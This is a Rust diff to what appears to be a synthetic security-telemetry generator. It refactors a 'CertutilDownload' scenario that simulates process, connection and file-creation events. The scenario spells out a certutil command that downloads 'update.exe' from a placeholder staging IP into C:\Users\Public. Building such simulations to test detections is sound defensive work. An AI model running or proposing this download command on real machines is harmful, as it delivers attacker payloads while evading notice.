@@ -4,9 +4,9 @@
 
 use serde_json::{Map, Value};
 
-use super::{Env, Kind, Scenario, process_record};
+use super::{Env, Kind, Scenario, outbound, process_record};
 use crate::synth::content as c;
-use crate::synth::device::{Conn, Ctx, MINUTE, SECOND, Spawn};
+use crate::synth::device::{Ctx, MINUTE, SECOND, Spawn};
 use crate::synth::rng::Rng;
 use crate::synth::world as w;
 
@@ -31,15 +31,7 @@ impl Scenario for CertutilDownload {
         let target = "C:\\Users\\Public\\update.exe";
         let line = format!("certutil.exe  -urlcache -split -f http://{}/update.exe {target}", c::STAGING_IP);
         let certutil = ctx.spawn(at + 40 * SECOND, Spawn::new(&w::CERTUTIL, line).parent(&shell).lifetime(5 * SECOND));
-        let conn = Conn {
-            action: "ConnectionSuccess",
-            remote_ip: c::STAGING_IP,
-            remote_port: 80,
-            remote_url: "",
-            local_ip: "",
-            local_port: rng.range(49_152, 65_535) as i32,
-            protocol: "Tcp",
-        };
+        let conn = outbound(c::STAGING_IP, 80, rng);
         ctx.connect(&certutil, at + 41 * SECOND, &conn);
         ctx.file_event(&certutil, at + 43 * SECOND, "FileCreated", target, 73_216, &[]);
         process_record(&certutil, &shell)
